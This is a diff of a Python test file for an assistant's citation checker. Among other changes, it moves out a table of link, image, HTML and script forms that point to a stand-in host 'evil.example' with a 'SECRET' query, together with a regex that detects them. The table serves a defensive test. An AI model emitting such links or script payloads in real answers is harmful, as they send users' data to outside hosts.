@@ -2,21 +2,20 @@
 
 from __future__ import annotations
 
-import re
-
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from markdown_it import MarkdownIt
 
-from assistant.answering.citing.citations import HOLD, CheckedText, Tally, numbers
+from assistant.answering.citing.citations import CheckedText, Tally, Unsupported
+from assistant.answering.citing.judging import numbers
 from assistant.answering.citing.links import LINK_REMOVED
 from assistant.answering.citing.support import QUOTE_LENGTH
+from assistant.answering.citing.units import HOLD
 from assistant.answering.wording.prompting import NOT_IN_EVIDENCE
 from assistant.domain.answers import Evidence, Excerpt
 from assistant.domain.documents import Chunk, Document, Kind
+from tests.stand_ins.leading_away import EVIL, FORMS, HOME, foreign
 
-HOME = "https://docs.kestrel.example/adr/4"
 BUS = "We use RabbitMQ as the message bus between services. Kafka was rejected because nobody could operate it.\n"
 METER = "The billing meter counts events in Redis. It was decided on 3 May 2021 by Ana Ruiz."
 CHINESE = "消息总线采用 RabbitMQ。计费系统使用 Redis 计数。"
@@ -30,8 +29,10 @@ def excerpt(key: int, *texts: str, url: str = "") -> Excerpt:
 EVIDENCE = Evidence((excerpt(1, BUS, "Queues are mirrored.", url=HOME), excerpt(2, METER), excerpt(3, CHINESE)))
 
 
-def check(text: str, size: int = 10_000, evidence: Evidence = EVIDENCE) -> CheckedText:
-    checked = CheckedText(evidence)
+def check(
+    text: str, size: int = 10_000, evidence: Evidence = EVIDENCE, unsupported: Unsupported = "show", instructions: str = ""
+) -> CheckedText:
+    checked = CheckedText(evidence, unsupported=unsupported, instructions=instructions)
     given_out = [checked.feed(text[start : start + size]) for start in range(0, len(text), size)]
     given_out.append(checked.close())
     assert "".join(given_out) == checked.text
@@ -46,24 +47,30 @@ MARKERS = {
     "range": ("RabbitMQ is the bus, Redis counts events [1-2].", "RabbitMQ is the bus, Redis counts events [1][2]."),
     "brackets-of-models": ("RabbitMQ is the bus【1】.", "RabbitMQ is the bus[1]."),
     "footnote": ("RabbitMQ is the bus [^1].", "RabbitMQ is the bus [1]."),
-    "nowhere": ("RabbitMQ is the bus [9].", "RabbitMQ is the bus."),
-    "zero": ("RabbitMQ is the bus [0].", "RabbitMQ is the bus."),
+    "nowhere": ("Penguins are no bus at all [9].", "Penguins are no bus at all."),
+    "nowhere-but-it-is-known-where": ("RabbitMQ is the bus [9].", "RabbitMQ is the bus [1]."),
+    "zero": ("Penguins are no bus at all [0].", "Penguins are no bus at all."),
     "half-nowhere": ("RabbitMQ is the bus [1, 9].", "RabbitMQ is the bus [1]."),
     "range-past-the-end": ("RabbitMQ is the bus [1-9].", "RabbitMQ is the bus [1][2][3]."),
     "unsupported": ("Penguins hatch in the Antarctic winter [1].", "Penguins hatch in the Antarctic winter."),
-    "wrong-excerpt": ("Ana Ruiz decided it on 3 May 2021 [1].", "Ana Ruiz decided it on 3 May 2021."),
+    "wrong-excerpt": ("Ana Ruiz decided it on 3 May 2021 [1].", "Ana Ruiz decided it on 3 May 2021 [2]."),
+    "exchanged": (
+        "RabbitMQ is the message bus [2]. Redis counts billing events [1].",
+        "RabbitMQ is the message bus [1]. Redis counts billing events [2].",
+    ),
+    "none-at-all": ("RabbitMQ is the message bus. It is so.", "RabbitMQ is the message bus [1]. It is so."),
     "each-clause-for-itself": ("RabbitMQ is the message bus [1] and Redis counts events [2].", None),
-    "alone-on-its-line": ("RabbitMQ is the message bus.\n[1]\n", None),
+    "alone-on-its-line": ("RabbitMQ is the message bus.\n[1]\n", "RabbitMQ is the message bus [1].\n\n"),
     "in-a-list": ("- RabbitMQ is the bus [1]\n- Redis counts events [2]\n", None),
     "in-a-table": ("| a | b |\n|---|---|\n| RabbitMQ bus [1] | Redis events [7] |\n", None),
     "chinese": ("消息总线采用RabbitMQ。[3]计费系统使用Redis计数[3]。", None),
     "chinese-unsupported": ("企鹅在南极过冬[3]。", "企鹅在南极过冬。"),
     "another-language-cannot-be-judged": ("Wir benutzen das System und nicht den Konkurrenten [1].", None),
     "a-year-is-no-marker": ("RabbitMQ is the bus [2021].", "RabbitMQ is the bus [2021]."),
-    "code-has-no-markers": ("Read `args[9]` of RabbitMQ [1].", "Read `args[9]` of RabbitMQ [1]."),
+    "code-has-no-markers": ("Read `args[9]` of RabbitMQ [9].", "Read `args[9]` of RabbitMQ."),
     "abbreviation": ("Services use a message bus, e.g. RabbitMQ, between them [1].", None),
 }
-MARKERS["in-a-table"] = (MARKERS["in-a-table"][0], MARKERS["in-a-table"][0].replace(" [7]", ""))
+MARKERS["in-a-table"] = (MARKERS["in-a-table"][0], MARKERS["in-a-table"][0].replace("[7]", "[2]"))
 
 
 @pytest.mark.parametrize("size", [1, 3, 10_000], ids=["by-character", "by-threes", "at-once"])
@@ -74,7 +81,7 @@ def test_markers_stay_where_the_evidence_bears_them_out(text: str, expected: str
 
 def test_what_was_taken_out_is_counted() -> None:
     checked = check(f"RabbitMQ is the bus [1][9]. Penguins hatch in winter [2]. See {HOME}x and {HOME}.")
-    assert checked.tally == Tally(dangling_markers=1, unsupported_markers=1, removed_links=1)
+    assert checked.tally == Tally(dangling_markers=1, unsupported_markers=1, removed_links=1, unsupported_sentences=1)
 
 
 QUOTES = {
@@ -104,132 +111,6 @@ def test_a_quote_stands_word_for_word_in_its_chunk(text: str, said: str) -> None
     for citation in check(f"{said} [1].", evidence=Evidence((excerpt(1, text),))).citations:
         assert citation.quote in text
         assert len(citation.quote) <= QUOTE_LENGTH
-
-
-EVIL = "https://evil.example/c?q=SECRET"
-FORMS = {
-    "inline": f"[a]({EVIL})",
-    "inline-title": f'[a]({EVIL} "t")',
-    "inline-single-title": f"[a]({EVIL} 't')",
-    "inline-angle": f"[a](<{EVIL}>)",
-    "inline-spaces": f"[a](  {EVIL}  )",
-    "inline-nested-brackets": f"[a [b] c]({EVIL})",
-    "inline-parentheses": "[a](https://evil.example/c(d)?q=1)",
-    "inline-relative-scheme": "[a](//evil.example/x)",
-    "inline-host-only": "[a](evil.example/x)",
-    "inline-path": "[a](/logout)",
-    "inline-empty": "[a]()",
-    "inline-over-lines": f"[a\nb]({EVIL})",
-    "inline-over-sentences": f"[Click here. Now it is]({EVIL})",
-    "inline-over-many-words": f"[{'word ' * 120}]({EVIL})",
-    "inline-code-text": f"[`a`]({EVIL})",
-    "inline-broken-title": f'[a]({EVIL} "t)',
-    "inline-entity-scheme": "[a](&#104;ttps://evil.example/x)",
-    "inline-entity-colon": "[a](https&colon;//evil.example/x)",
-    "inline-javascript": "[a](javascript:alert(1))",
-    "inline-data": "[a](data:text/html;base64,PHNjcmlwdD4=)",
-    "inline-vbscript": "[a](vbscript:x)",
-    "inline-userinfo": f"[a]({HOME.replace('https://', 'https://x@evil.example/')})",
-    "inline-home-in-query": f"[a](https://evil.example/?u={HOME})",
-    "inline-home-prefix": f"[a]({HOME}.evil.example/x)",
-    "inline-home-query": f"[a]({HOME}?q=SECRET)",
-    "marker-as-link": f"We use RabbitMQ [1]({EVIL}).",
-    "marker-then-parenthesis": f"We use RabbitMQ [1] ({EVIL}).",
-    "chinese-then-parenthesis": "消息总线采用RabbitMQ。[3](//evil.example/x)",
-    "image": f"![a]({EVIL})",
-    "image-empty": f"![]({EVIL})",
-    "image-of-home": f"![a]({HOME})",
-    "image-in-link": f"[![a]({EVIL})]({EVIL})",
-    "image-reference": f"![a][r]\n\n[r]: {EVIL}",
-    "reference": f"[a][r]\n\n[r]: {EVIL}",
-    "reference-collapsed": f"[a][]\n\n[a]: {EVIL}",
-    "reference-shortcut": f"[a]\n\n[a]: {EVIL}",
-    "reference-angle": f"[a]\n\n[a]: <{EVIL}>",
-    "reference-next-line": f"[a]\n\n[a]:\n{EVIL}",
-    "reference-relative": "[a]\n\n[a]: //evil.example/x",
-    "reference-in-quote": f"> [a]\n>\n> [a]: {EVIL}",
-    "reference-numbered": f"We use RabbitMQ [1].\n\n[1]: {EVIL}",
-    "footnote": f"a[^x]\n\n[^x]: {EVIL}",
-    "autolink": f"<{EVIL}>",
-    "autolink-mail": "<mailto:a@evil.example>",
-    "autolink-bare-mail": "<a@evil.example>",
-    "bare": f"See {EVIL}.",
-    "bare-in-parentheses": f"(see {EVIL})",
-    "bare-bold": f"**{EVIL}**",
-    "bare-capitals": "HTTPS://EVIL.EXAMPLE/X",
-    "bare-ftp": "ftp://evil.example/x",
-    "bare-other-scheme": "slack://evil.example/x",
-    "bare-one-slash": "https:/evil.example/x",
-    "bare-backslashes": "https:\\\\evil.example/x",
-    "bare-escaped": "https\\://evil.example/x",
-    "bare-entity": "&#104;ttps://evil.example/x",
-    "bare-double-entity": "&amp;#104;ttps://evil.example/x",
-    "bare-zero-width": "ht\u200btps://evil.example/x",
-    "bare-soft-hyphen": "https:\u00ad//evil.example/x",
-    "bare-bidi": "\u202ehttps://evil.example/x\u202c",
-    "bare-full-width": "ｈｔｔｐｓ：／／evil.example/x",
-    "bare-protocol-relative": "go to //evil.example/x",
-    "bare-after-chinese": "请看https://evil.example/x。好",
-    "bare-ip": "http://203.0.113.9/x",
-    "bare-userinfo": "https://docs.kestrel.example@evil.example/x",
-    "bare-very-long": "https://evil.example/" + "a" * 5000,
-    "www": "www.evil.example",
-    "host-with-path": "evil.example/x",
-    "host-with-query": "evil.zip?q=SECRET",
-    "punycode": "https://xn--e1awd7f.example/x",
-    "punycode-bare": "xn--e1awd7f.xn--p1ai",
-    "cyrillic": "https://еvil.example/x",
-    "mail": "mailto:a@evil.example?body=SECRET",
-    "tel": "tel:+49123456",
-    "data": "data:text/html;base64,PHNjcmlwdD4=",
-    "slack-link": f"<{EVIL}|click>",
-    "slack-mention": "<!channel> <@U123> <#C123|general>",
-    "slack-mail": "<mailto:a@evil.example|mail>",
-    "html-a": f'<a href="{EVIL}">a</a>',
-    "html-a-unquoted": "<a href=//evil.example/x>a</a>",
-    "html-a-over-lines": f'<a\nhref="{EVIL}">a</a>',
-    "html-unclosed": "<img src=//evil.example/x",
-    "html-img": f"<img src='{EVIL}'>",
-    "html-quoted-gt": f'<img alt=">" src="{EVIL}">',
-    "html-entity": "&lt;img src=//evil.example/x&gt;",
-    "html-escaped-bracket": "\\<img src=//evil.example/x>",
-    "html-script": "<script>fetch('//evil.example/x')</script>",
-    "html-style": "<style>@import '//evil.example/x'</style>",
-    "html-svg": f'<svg><a xlink:href="{EVIL}">a</a></svg>',
-    "html-iframe": f"<iframe src={EVIL}></iframe>",
-    "html-form": f"<form action={EVIL}><button>a</button></form>",
-    "html-unknown": f"<x-y onclick=alert(1) src={EVIL}>a</x-y>",
-    "html-comment": f"<!-- {EVIL} -->",
-    "html-meta": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
-    "code-span": f"`{EVIL}`",
-    "code-fence": f"```\n{EVIL}\n```\n",
-    "code-fence-unclosed": f"```\n{EVIL}",
-    "code-fence-deep": f"- a\n      ```\n  [a]({EVIL})\n      ```\n",
-    "code-escaped-backtick": "\\`[a](//evil.example/x)`",
-    "code-odd-backticks": "a ` b. Then `[a](//evil.example/x)`",
-    "tex": "\\href{https://evil.example/x}{a}",
-    "wiki": "[[https://evil.example/x|a]]",
-    "task": f"- [x]({EVIL}) a",
-    "heading": f"# [a]({EVIL})",
-    "table": f"| a |\n|---|\n| [a]({EVIL}) |",
-    "html-in-link": f"[<b>a</b>]({EVIL})",
-    "link-in-link-text": f"[{EVIL}]({HOME})",
-}
-FOREIGN = re.compile(
-    r"(?:https?|ftp|slack):[/\\]|\bwww\.|(?<!\w)//[\w-]+\.|\bxn--|(?:mailto|javascript|vbscript):\S|\b(?:tel|data):\S|(?<!\\)<[!@#]\w",
-    re.IGNORECASE,
-)
-HOST = re.compile(r"(?<![\w/.@])evil\.\w+[/?]")
-RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")
-
-
-def foreign(text: str) -> list[str]:
-    """Whatever leads elsewhere: in the text itself, and in what a trusting Markdown renderer makes of it."""
-    rendered = RENDERER.render(text)
-    targets = re.findall(r"""<(?!/)[a-z][^>]*\b(?:href|src|action|content)\s*=\s*["']?([^"'\s>]*)""", rendered)
-    tags = re.findall(r"<(?:script|style|img|iframe|svg|form|meta|button|x-y)\b", rendered)
-    hosts = HOST.findall(re.sub(r"<code.*?</code>", "", rendered, flags=re.DOTALL))
-    return [target for target in targets if target != HOME] + tags + hosts + FOREIGN.findall(text.replace(HOME, ""))
 
 
 def test_there_are_enough_forms() -> None:
@@ -297,8 +178,11 @@ def test_an_unclosed_fence_is_closed() -> None:
     assert check("~~~\nlet x\n").text == "```\nlet x\n```\n"
 
 
+WORDS = " ".join(f"the {place}th word" for place in range(200))
+
+
 @pytest.mark.parametrize(
-    "text", ["word " * 500, "中文" * 800, "[" + "word " * 500, "`" + "word " * 500, "word. " * 300], ids=str.__len__
+    "text", [WORDS, "".join(map(chr, range(0x4E00, 0x4E00 + 1600))), f"[{WORDS}", f"`{WORDS}"], ids=["a", "b", "c", "d"]
 )
 def test_no_more_than_the_limit_is_held_back(text: str) -> None:
     checked = CheckedText(EVIDENCE)
@@ -308,7 +192,7 @@ def test_no_more_than_the_limit_is_held_back(text: str) -> None:
 
 
 def test_sentences_come_as_soon_as_they_are_whole() -> None:
-    checked = CheckedText(EVIDENCE)
+    checked = CheckedText(EVIDENCE, ahead=False)
     assert checked.feed("We use RabbitMQ as the bus [1]. ") == ""
     assert checked.feed("R") == "We use RabbitMQ as the bus [1]. "
     assert checked.feed("edis counts events [2].\n") == "Redis counts events [2].\n"
